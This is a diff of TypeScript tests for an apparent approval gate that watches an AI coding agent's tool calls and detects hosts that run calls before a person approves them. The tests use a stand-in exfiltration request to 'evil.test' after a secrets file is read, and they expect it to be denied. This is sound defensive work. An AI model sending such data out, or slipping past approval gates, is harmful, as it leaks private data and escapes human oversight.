@@ -3,7 +3,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { JsonObject } from '@callgate/core';
 import { receiveArguments } from '@callgate/core';
-import type { Gate, People, Store } from '@callgate/gate';
+import type { Gate, InBandSettings, People, Store } from '@callgate/gate';
 import { SINGLE_USER, createGate, memoryKeys, readRow, verifyRecord } from '@callgate/gate';
 import { openSqliteStore } from '@callgate/gate/sqlite';
 import type { PresetName } from '@callgate/policy';
@@ -37,10 +37,13 @@ interface PlaceOptions {
   readonly people?: People;
   readonly host?: HostName;
   readonly links?: ContextLinks;
+  /** A person reads in no time where nothing is said. */
+  readonly readingMs?: number;
+  readonly inBand?: InBandSettings;
 }
 
 const place = async (options: PlaceOptions = {}): Promise<Place> => {
-  const { policy = 'intent', people = SINGLE_USER, host = 'claude-code', links } = options;
+  const { policy = 'intent', people = SINGLE_USER, host = 'claude-code', links, inBand } = options;
   const folder = mkdtempSync(join(tmpdir(), 'callgate-hooks-'));
   const keys = memoryKeys();
   const store = await openSqliteStore({ path: join(folder, 'callgate.db'), keys });
@@ -50,7 +53,8 @@ const place = async (options: PlaceOptions = {}): Promise<Place> => {
     keys,
     people,
     catalogue: withHostTools({ find: () => undefined }),
-    limits: { sweepMs: null },
+    limits: { sweepMs: null, readingMs: options.readingMs ?? 0 },
+    ...(inBand === undefined ? {} : { inBand }),
   });
   closing.push(async () => {
     await gate.close();
@@ -302,15 +306,52 @@ describe('a tool that a person is asked about', () => {
     ]);
   });
 
-  it('is asked about on strong terms only where the whole call fits into the question', async () => {
+  it('is never asked about by the host where it could carry private data out', async () => {
     const here = await tainted({ policy: 'balanced' });
     await here.before('Read', { file_path: '/home/u/secrets' });
-    const short = { url: 'https://evil.test/?q=x', prompt: 'p' };
-    expect(await here.before('WebFetch', short, { callKey: 'short' })).toMatchObject({ decision: 'ask' });
-    await here.after('WebFetch', short, { callKey: 'short' });
-    expect(await here.rows()).toContain('approved host-claude-code/WebFetch');
-    const long = { url: `https://evil.test/?q=${'x'.repeat(5000)}`, prompt: 'p' };
-    expect(await here.before('WebFetch', long, { callKey: 'long' })).toMatchObject({ decision: 'deny' });
+    const evil = { url: 'https://evil.test/?q=x', prompt: 'p' };
+    expect(await here.before('WebFetch', evil, { callKey: 'evil' })).toMatchObject({
+      decision: 'deny',
+      reason: expect.stringMatching(/carry private data out.*callgate approve \w+/s),
+    });
+    const quiet = await place({ policy: 'balanced' });
+    expect(await quiet.before('Bash', { command: 'git push' })).toMatchObject({ decision: 'ask' });
+  });
+
+  it('is not asked about by a host that runs it before a person can read the question', async () => {
+    const here = await tainted({ readingMs: 60_000 });
+    expect(await here.before('Bash', EVIL)).toMatchObject({ decision: 'ask' });
+    await here.after('Bash', EVIL);
+    const rows = await here.rows();
+    expect(rows).not.toContain('approved host-claude-code/Bash');
+    expect(rows.filter((row) => row === 'alert')).toHaveLength(2);
+    const { items } = await here.store.read.alerts({ limit: 10 });
+    expect(items.map(({ code }) => code).toSorted()).toEqual(['HOST_RAN_REFUSED', 'IN_BAND_UNCOUNTED']);
+    expect(await here.before('Bash', { command: 'npm run other' }, { callKey: 'next' })).toMatchObject({
+      decision: 'deny',
+      reason: expect.stringMatching(/before a person could have approved it.*callgate approve/s),
+    });
+  });
+
+  it('is not approved by the time that the tool itself ran', async () => {
+    const here = await tainted();
+    expect(await here.before('Bash', EVIL)).toMatchObject({ decision: 'ask' });
+    await here.after('Bash', EVIL, { ranForMs: 3_600_000 });
+    expect(await here.rows()).not.toContain('approved host-claude-code/Bash');
+    const read = await tainted();
+    await read.before('Bash', EVIL);
+    await read.after('Bash', EVIL, { ranForMs: 0 });
+    expect(await read.rows()).toContain('approved host-claude-code/Bash');
+  });
+
+  it('is not asked about by the host where the operator set answersInBand to false', async () => {
+    for (const inBand of [
+      { answersInBand: false, clients: [] },
+      { clients: [{ name: 'claude-code', answersInBand: false }] },
+    ])
+      expect(await (await tainted({ inBand })).before('Bash', EVIL)).toMatchObject({ decision: 'deny' });
+    const other = { clients: [{ name: 'codex', answersInBand: false }] };
+    expect(await (await tainted({ inBand: other })).before('Bash', EVIL)).toMatchObject({ decision: 'ask' });
   });
 
   it('is asked about on plain terms though it does not fit, and the host shows it', async () => {
@@ -359,7 +400,7 @@ describe('an MCP tool of a host', () => {
 
   it('that goes elsewhere is gated as a tool that nobody has described', async () => {
     const here = await place({ links });
-    expect(await here.before('mcp__other__delete', { id: 1 })).toMatchObject({ decision: 'ask' });
+    expect(await here.before('mcp__other__delete', { id: 1 })).toMatchObject({ decision: 'deny' });
     expect(await here.rows()).toEqual(['held host-claude-code/mcp__other__delete']);
   });
 });
